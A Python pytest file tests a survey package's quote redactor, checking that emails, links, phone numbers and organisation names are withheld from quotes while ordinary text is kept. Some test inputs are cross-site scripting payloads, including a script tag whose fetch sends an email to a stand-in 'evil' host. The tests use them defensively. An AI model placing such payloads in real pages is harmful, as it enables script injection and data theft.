"""Quotes without their author: redact_quote on ordinary and hostile input."""

from __future__ import annotations

import doctest

import pytest

import survey.coding.quotes
from survey.coding import Redactor, redact_quote

EMAIL, LINK, PHONE, ORG = ("[email withheld]", "[link withheld]", "[phone withheld]",
                           "[organisation withheld]")


def test_examples() -> None:
    result = doctest.testmod(survey.coding.quotes)
    assert result.attempted > 0 and result.failed == 0


def test_email_inside_a_script_tag_is_withheld_and_the_rest_left_as_text() -> None:
    text = "<script>fetch('//evil?c='+'jo.bloggs+lg@walsall.gov.uk')</script>"
    out = redact_quote(text)
    assert "jo.bloggs" not in out and "walsall.gov.uk" not in out
    assert out == f"<script>fetch('//evil?c='+'{EMAIL}')</script>"


@pytest.mark.parametrize(("text", "gone"), [
    ("See https://council.example.gov.uk/research?id=7 for it.", "council.example"),
    ("Visit www.wmca.org.uk.", "wmca"),
    ("our site bcc.gov.uk/data says so", "bcc.gov.uk"),
    ("Ring 0121 303 1111 today", "303"),
    ("Ring +44 (0)121-303-1111!", "303"),
    ("Mobile: 07700.900.123", "900"),
    ("<img src=x onerror=alert(1)> mail JO@EXAMPLE.ORG", "EXAMPLE"),
    ("[click](javascript:alert('a@b.co'))", "a@b.co"),
])
def test_identifying_details_are_withheld(text: str, gone: str) -> None:
    out = redact_quote(text)
    assert gone not in out and "withheld]" in out


def test_ordinary_numbers_and_words_are_kept() -> None:
    text = "In 2022 we had 3 projects, 12345 pounds, version 1.2; e.g. Dr. Who."
    assert redact_quote(text) == text


def test_organisation_names_match_whole_words_ignoring_case_and_punctuation() -> None:
    names = ["Birmingham City Council", "St. Mary's Trust", "NHS", "UK", ""]
    out = redact_quote("BIRMINGHAM  city council and st marys trust? No: St Mary's Trust, "
                       "the NHS, the UK, Birminghamshire.", names)
    assert out == (f"{ORG} and st marys trust? No: {ORG}, "
                   f"the {ORG}, the UK, Birminghamshire.")
    assert out.count(ORG) == 3


def test_longest_name_wins_and_a_placeholder_is_never_matched_again() -> None:
    out = redact_quote("Aston University partners with Aston.",
                       ["Aston", "Aston University", "withheld", "organisation"])
    assert out == f"{ORG} partners with {ORG}."


def test_a_name_inside_an_email_or_link_is_withheld_once() -> None:
    out = redact_quote("Write to data@aston.ac.uk or https://aston.ac.uk/about", ["Aston"])
    assert out == f"Write to {EMAIL} or {LINK}"


def test_the_respondents_own_names_are_withheld_only_from_their_quote() -> None:
    redact = Redactor(["Known Body"])
    assert redact("Known Body and Acme Ltd", ["Acme Ltd"]) == f"{ORG} and {ORG}"
    assert redact("Known Body and Acme Ltd") == f"{ORG} and Acme Ltd"


def test_hostile_text_does_not_break_the_redactor() -> None:
    nasty = ("\u202e\x00" + "a" * 5000 + "@" + "b." * 2000 + "uk " + "1 " * 3000
             + "(((" * 500 + "Ⅻ ﬁnance ＠example．org")
    out = redact_quote(nasty, ["ﬁnance"])
    assert isinstance(out, str) and "a" * 5000 not in out


def test_a_one_word_name_is_kept_as_an_ordinary_lower_case_word() -> None:
    out = redact_quote("After reading the report, Reading and READING and bury Bury.",
                       ["Reading", "Bury"])
    assert out == f"After reading the report, {ORG} and {ORG} and bury {ORG}."
    # The respondent's own names are withheld however written.
    assert Redactor(["Reading"])("ask bloggs", ["Jo Bloggs", "Bloggs"]) == f"ask {ORG}"
    # Several words are withheld in any case.
    assert redact_quote("the acme trust said", ["Acme Trust"]) == f"the {ORG} said"
